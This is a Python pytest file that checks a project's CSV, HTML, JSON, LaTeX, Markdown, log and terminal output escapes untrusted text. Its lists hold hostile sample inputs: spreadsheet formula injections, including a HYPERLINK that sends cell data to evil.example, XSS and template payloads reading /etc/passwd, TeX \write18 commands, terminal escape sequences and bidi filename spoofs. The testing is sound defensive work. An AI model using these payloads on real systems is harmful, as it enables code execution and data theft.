"""What people open or read: nothing in it is a command to a browser, a spreadsheet, TeX or a terminal."""

import csv
import io
import json
import logging
import re
from dataclasses import replace
from html.parser import HTMLParser

import pandas as pd
import pytest
from evidence import predicted
from records import made, score
from traps import Trap

from receipts import cli
from receipts.config import help as helps
from receipts.evaluation import eyes
from receipts.evaluation.storage import read, write
from receipts.guards.review.page import Card, Section, html
from receipts.refusal import Refusal, visible
from receipts.report import experiments, latex
from receipts.report.page import embedded
from receipts.runs import log, overview, screen, sheets, views
from receipts.runs import record as records
from receipts.runs.record import Check, Failure
from receipts.runs.store import Run

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "=1+1",
    "-class",
]
NUMBERS = ["-5", "+1.5e-3", "-0.25", "1", "-inf", "nan", ".5", "-.5", "1e9"]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_of_a_sheet_for_people_is_a_formula(text: str) -> None:
    shown = "\\r=1+1" if text == "\r=1+1" else f"'{text}"  # else it would end the row, and begin one with a formula
    (row,) = csv.reader(io.StringIO(sheets.sheet([[text, 1.5, "plain"]]), newline=""))
    assert row == [shown, "1.5", "plain"]
    table = pd.DataFrame({text: [text, "a"], "x": [-0.5, 1.0]})
    rows = list(csv.reader(io.StringIO(eyes.as_csv(table).decode(), newline="")))
    assert rows == [[shown, "x"], [shown, "-0.5"], ["a", "1"]]


@pytest.mark.parametrize("text", NUMBERS)
def test_a_number_stays_a_number(text: str) -> None:
    assert sheets.sheet([[text]]).strip() == text


def test_ids_that_are_formulas_come_back_as_they_were_from_what_programs_read(trap: Trap) -> None:
    honest = predicted(0, 1.0, "")
    ids = [f"{FORMULAS[row % len(FORMULAS)]}{row}" for row in range(len(honest))]
    predictions = replace(honest, ids=ids)
    write(predictions, trap.project / "p.parquet")
    assert read(trap.project / "p.parquet").ids == ids
    eyes.write_csv(predictions, trap.project / "p.csv")
    with (trap.project / "p.csv").open(newline="", encoding="utf-8") as file:
        shown = [row["sample_id"] for row in csv.DictReader(file)]
    assert sorted(shown) == sorted(sheets.inert(name) for name in ids)


MARKUP = [
    "<script>window.ran=1</script>",
    "</script><script>window.ran=1</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "' onmouseover='alert(1)",
    "<!--<script>",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "javascript:alert(1)",
    "\u2028</ScRiPt>\u2029",
]


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [tag, *(name for name, _ in attrs if name.startswith("on"))]


@pytest.mark.parametrize("text", MARKUP)
def test_a_review_page_shows_markup_as_text(text: str) -> None:
    def tags(word: str) -> list[str]:
        parts = Section(word, word, [(word, word)], [Card(word, [word])], [word], [[word]])
        found = Tags()
        found.feed(page := html(word, [parts]))
        assert "49" not in page
        return found.found

    assert tags(text) == tags("plain")


@pytest.mark.parametrize("text", MARKUP)
def test_data_in_a_page_stay_inside_their_element(text: str) -> None:
    found = embedded({"a": [text], text: 1})
    assert not re.search(r"[<>&\u2028\u2029]", found)
    assert json.loads(found) == {"a": [text], text: 1}


COMMANDS = [
    r"\input{/etc/passwd}",
    r"\write18{touch canary}",
    r"\immediate\write18{id}",
    r"}\def\x{\x}\x",
    "$\\catcode`\\%=0",
    "100% of $5 & #1_a^b~c",
    "^^5cinput{x}",
    "a\nb\r\\end{document}",
    "\\",
]


@pytest.mark.parametrize("text", COMMANDS)
def test_nothing_in_a_text_is_a_command_to_tex(text: str) -> None:
    found = latex.escaped(text)
    known = r"\\(?:text[a-z]+\{\}|[&%$#_{}]|textsuperscript\{\*\}|ldots\{\})"
    rest = re.sub(known, "", found)
    assert not re.search(r"[\\$%&#^_~{}\n\r]", rest), rest


OBEYED = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\U000e0041]")
ESCAPES = [
    "\x1b[2J\x1b[1;1H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m",
    "safe\rEVIL",
    "a\x08b",
    "\u202egpj.exe",
    "\u2066hidden\u2069",
    "\x00",
    "cat\u200b",
    "\ufeffcat",
    "cat\U000e0041",
    "a\u2028b",
]


@pytest.mark.parametrize("text", ESCAPES)
def test_no_text_moves_colours_or_hides_anything_on_a_terminal(
    trap: Trap, capsys: pytest.CaptureFixture[str], text: str
) -> None:
    folder = trap.run(purpose=text, names=[text], status="failed", failure=Failure(text, [text]), blocked_by=[text])
    assert cli.main(["ls"]) == 0
    assert cli.main(["show", folder.name]) == 0
    assert cli.main(["diff", folder.name, folder.name]) == 0
    views.show(made(0, score(), blocked_by=[text]), "accuracy")
    print(Refusal(text, text, text))
    said = "".join(capsys.readouterr())
    assert not OBEYED.search(said)
    assert visible(text) in said


@pytest.mark.parametrize("text", [*ESCAPES, "half a sign \udcff"])
def test_no_text_of_a_page_or_a_log_does_either(trap: Trap, capsys: pytest.CaptureFixture[str], text: str) -> None:
    folder = trap.project / "runs" / "20261120-133700-net-s0-9f3c1a7e"
    folder.mkdir(parents=True)

    def fail() -> None:
        log.say(text)
        logging.getLogger("lab").warning("a sample called %s", text)
        raise ValueError(f"odd: {text}")

    with pytest.raises(ValueError, match="odd"), Run(folder, made(0, status="running", ended=None)):
        fail()
    failed = records.read(folder)
    assert failed.failure is not None
    assert failed.failure.reason == f"ValueError: odd: {visible(text)}"
    check = Check(text, "fail", text, cure=text)
    own = score(name=text.replace("\udcff", ""))
    odd = {} if "\udcff" in text else {"purpose": text, "names": [text], "checks": [check]}
    (folder / "README.md").write_text(views.readme(made(0, own, **odd)))
    (trap.project / "conf/odd.yaml").write_text(json.dumps({"purpose": text.replace("\udcff", "")}))
    said = helps.of_experiment("A story.", ["conf=net"])
    said += "".join(capsys.readouterr()) + (folder / "README.md").read_text() + (folder / "train.log").read_text()
    assert not OBEYED.search(said)
    assert said.count(visible(text)) >= 4


def test_no_name_ends_a_cell_of_a_table() -> None:
    check = Check("a | b\n# c", "pass", "d | e")
    page = views.readme(made(0, score(name="x | y"), checks=[check]))
    assert "| a \\| b # c | pass: d \\| e |" in page
    assert "| x \\| y ↑ |" in page


@pytest.mark.parametrize("text", ["a|b", "a\\|b", "a\\\\|b", "|", "\\|\\|", "a\n|"])
def test_a_bar_never_ends_a_cell_whatever_stands_before_it(text: str) -> None:
    left = re.sub(r"\\\\|\\\|", "", views.escaped(text))  # as Markdown reads it: pairs of strokes, then kept bars
    assert "|" not in left


def test_no_name_is_one_of_the_markers_of_a_file() -> None:
    for marker in (experiments.BEGIN, experiments.END):
        assert marker not in views.escaped(f"version 1 {marker}")


@pytest.mark.parametrize("text", ["[link=http://evil.example]x[/link]", "[red]x", "[/]", "[@click=a]x[/]", "a[b"])
def test_no_text_is_markup_to_a_table(trap: Trap, capsys: pytest.CaptureFixture[str], text: str) -> None:
    trap.run(status="failed", failure=Failure(text, []))
    overview.show(None)
    assert text in capsys.readouterr().out
    assert screen.texts([text])[0].plain == text
